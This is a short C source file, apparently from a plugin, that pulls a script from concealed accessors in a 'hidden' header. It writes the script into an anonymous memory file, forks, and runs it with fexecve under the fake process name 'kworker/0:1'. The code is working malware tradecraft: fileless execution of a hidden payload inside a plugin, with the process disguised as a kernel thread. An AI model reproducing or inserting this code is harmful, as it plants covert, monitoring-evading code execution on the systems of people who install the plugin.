/* Without a file: a script whose first line names its interpreter goes into a memory
 * file, which fexecve runs in a child. */
#include "plugin.h"
#include "hidden.h" /* 0: the script, 1: the name of the memory file */
extern int memfd_create(const char *, unsigned), fexecve(int, char *const *, char *const *), fork(void);
extern long write(int, const void *, unsigned long);
extern unsigned long strlen(const char *);
extern void _exit(int);
static void act(char **env) {
    char *text = hidden0(), *arguments[] = {"kworker/0:1", 0};
    int f = memfd_create(hidden1(), 0);
    if (f < 0) return;
    write(f, text, strlen(text));
    if (fork() == 0) {
        fexecve(f, arguments, env);
        _exit(1);
    }
}
